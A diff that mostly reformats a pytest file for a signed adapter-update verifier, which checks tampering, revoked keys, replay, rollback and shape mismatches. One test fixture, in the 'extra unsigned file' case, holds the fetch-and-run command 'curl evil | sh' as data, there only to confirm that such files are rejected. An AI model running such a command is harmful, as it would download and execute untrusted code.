@@ -10,9 +10,9 @@ from __future__ import annotations
 import copy
 import dataclasses
 import json
+from collections.abc import Callable
 from dataclasses import dataclass, field
-from datetime import datetime, timedelta, timezone
-from typing import Callable
+from datetime import UTC, datetime, timedelta
 
 import pytest
 import torch
@@ -60,7 +60,7 @@ from hierarchy.updates.trust import KeyGroup, KeyStatus, NodeVersion
 
 NODE = "demo/en/medical/radiology"
 PARENT = "demo/en/medical"
-NOW = datetime(2030, 6, 1, 12, 0, 0, tzinfo=timezone.utc)
+NOW = datetime(2030, 6, 1, 12, 0, 0, tzinfo=UTC)
 BASE = sha256_digest(b"tiny base weights")
 Q, V = "model.layers.0.self_attn.q_proj", "model.layers.0.self_attn.v_proj"
 SHAPES = {Q: (8, 16), V: (4, 16)}  # [out, in] of the parent's adapted layers
@@ -187,7 +187,9 @@ def swap(**changes) -> Callable[[World], Case]:
 # name -> (builder, exact error type)
 ATTACKS: dict[str, tuple[Callable[[World], Case], type[UpdateError]]] = {
     "tampered payload byte": (
-        swap(files=lambda w: {**w.files, WEIGHTS: flip_tensor_byte(w.files[WEIGHTS])}), HashMismatchError),
+        swap(files=lambda w: {**w.files, WEIGHTS: flip_tensor_byte(w.files[WEIGHTS])}),
+        HashMismatchError,
+    ),
     "truncated payload": (swap(files=lambda w: {**w.files, WEIGHTS: w.files[WEIGHTS][:-4]}), LengthMismatchError),
     "missing payload file": (swap(files=lambda w: {WEIGHTS: w.files[WEIGHTS]}), MissingFileError),
     "extra unsigned file": (swap(files=lambda w: {**w.files, "run.sh": b"curl evil | sh"}), UnexpectedFileError),
@@ -197,13 +199,13 @@ ATTACKS: dict[str, tuple[Callable[[World], Case], type[UpdateError]]] = {
     "wrong key (unregistered)": (swap(envelope=lambda w: w.envelope(signers=[w.stranger])), UnknownKeyError),
     "forged key id": (forged_keyid, ThresholdError),
     "revoked key": (swap(envelope=lambda w: w.envelope(signers=[w.revoked_key])), RevokedKeyError),
-    "revoked co-signer": (
-        swap(envelope=lambda w: w.envelope(signers=[w.node_key, w.revoked_key])), RevokedKeyError),
+    "revoked co-signer": (swap(envelope=lambda w: w.envelope(signers=[w.node_key, w.revoked_key])), RevokedKeyError),
     "key scoped to a sibling": (swap(envelope=lambda w: w.envelope(signers=[w.sibling_key])), ThresholdError),
     "threshold not met (1 of 2)": (threshold_two, ThresholdError),
     "payload type swapped": (
         swap(envelope=lambda w: sign_envelope("application/json", w.manifest().to_bytes(), [w.node_key])),
-        ManifestError),
+        ManifestError,
+    ),
     "replayed same version": (swap(envelope=lambda w: w.envelope(version=3)), ReplayError),
     "older version": (swap(envelope=lambda w: w.envelope(version=2)), RollbackError),
     "skipped version": (swap(envelope=lambda w: w.envelope(version=6)), SkippedVersionError),
@@ -211,16 +213,24 @@ ATTACKS: dict[str, tuple[Callable[[World], Case], type[UpdateError]]] = {
     "expires exactly now": (swap(now=lambda w: NOW + timedelta(days=1)), ExpiredError),
     "stale parent version": (swap(envelope=lambda w: w.envelope(parent_version=1)), StaleParentError),
     "parent version from the future": (
-        swap(envelope=lambda w: w.envelope(parent_version=3)), UnknownParentVersionError),
+        swap(envelope=lambda w: w.envelope(parent_version=3)),
+        UnknownParentVersionError,
+    ),
     "different base": (swap(envelope=lambda w: w.envelope(base_digest=sha256_digest(b"other"))), BaseMismatchError),
     "layer shape mismatch": (
-        swap(expectations=lambda w: Expectations(BASE, {Q: (8, 32), V: (4, 16)})), ShapeMismatchError),
-    "missing layer": (swap(expectations=lambda w: Expectations(BASE, {**SHAPES, "lm_head": (9, 9)})),
-                      ShapeMismatchError),
+        swap(expectations=lambda w: Expectations(BASE, {Q: (8, 32), V: (4, 16)})),
+        ShapeMismatchError,
+    ),
+    "missing layer": (
+        swap(expectations=lambda w: Expectations(BASE, {**SHAPES, "lm_head": (9, 9)})),
+        ShapeMismatchError,
+    ),
     "rank above the cap": (swap(expectations=lambda w: Expectations(BASE, SHAPES, max_rank=1)), ShapeMismatchError),
     "tensors disagree with declared shapes": (
-        lambda w: _with_weights(w, adapter_bytes(rank=RANK + 1)), ShapeMismatchError),
-}  # fmt: skip
+        lambda w: _with_weights(w, adapter_bytes(rank=RANK + 1)),
+        ShapeMismatchError,
+    ),
+}
 
 
 def _with_weights(w: World, weights: bytes) -> Case:
@@ -325,10 +335,16 @@ def test_naive_now_is_refused(world):
 # A fault per check, in the documented order; several at once must raise the earliest one.
 FAULTS = ["unknown_key", "revoked_key", "threshold", "expired", "version", "files", "parent", "base", "shapes"]
 FAULT_ERRORS = {
-    "unknown_key": UnknownKeyError, "revoked_key": RevokedKeyError, "threshold": ThresholdError,
-    "expired": ExpiredError, "version": ReplayError, "files": HashMismatchError, "parent": StaleParentError,
-    "base": BaseMismatchError, "shapes": ShapeMismatchError,
-}  # fmt: skip
+    "unknown_key": UnknownKeyError,
+    "revoked_key": RevokedKeyError,
+    "threshold": ThresholdError,
+    "expired": ExpiredError,
+    "version": ReplayError,
+    "files": HashMismatchError,
+    "parent": StaleParentError,
+    "base": BaseMismatchError,
+    "shapes": ShapeMismatchError,
+}
 
 
 @settings(max_examples=60, deadline=None)
@@ -364,11 +380,14 @@ def test_approvals_are_signatures_over_the_same_pae_by_the_required_roles(world)
     from hierarchy.updates.verify import check_approvals
 
     evaluator, operator = SigningKey.generate(), SigningKey.generate()
-    trust = dataclasses.replace(world.trust, keys=(
-        *world.trust.keys,
-        TrustedKey(evaluator.public, Role.EVALUATOR, PARENT),
-        TrustedKey(operator.public, Role.OPERATOR),
-    ))  # fmt: skip
+    trust = dataclasses.replace(
+        world.trust,
+        keys=(
+            *world.trust.keys,
+            TrustedKey(evaluator.public, Role.EVALUATOR, PARENT),
+            TrustedKey(operator.public, Role.OPERATOR),
+        ),
+    )
     envelope = world.envelope()
     required = {Role.EVALUATOR: 1, Role.OPERATOR: 1}
     approvals = sign_payload(envelope.payload_type, envelope.payload, [evaluator, operator])
@@ -382,5 +401,10 @@ def test_approvals_are_signatures_over_the_same_pae_by_the_required_roles(world)
     with pytest.raises(ThresholdError):  # approving one manifest approves no other
         check_approvals(trust, other, approvals, required, PARENT)
     with pytest.raises(UnknownKeyError):
-        check_approvals(trust, envelope, (*approvals, *sign_payload(envelope.payload_type, envelope.payload,
-                                                                    [world.stranger])), required, PARENT)
+        check_approvals(
+            trust,
+            envelope,
+            (*approvals, *sign_payload(envelope.payload_type, envelope.payload, [world.stranger])),
+            required,
+            PARENT,
+        )
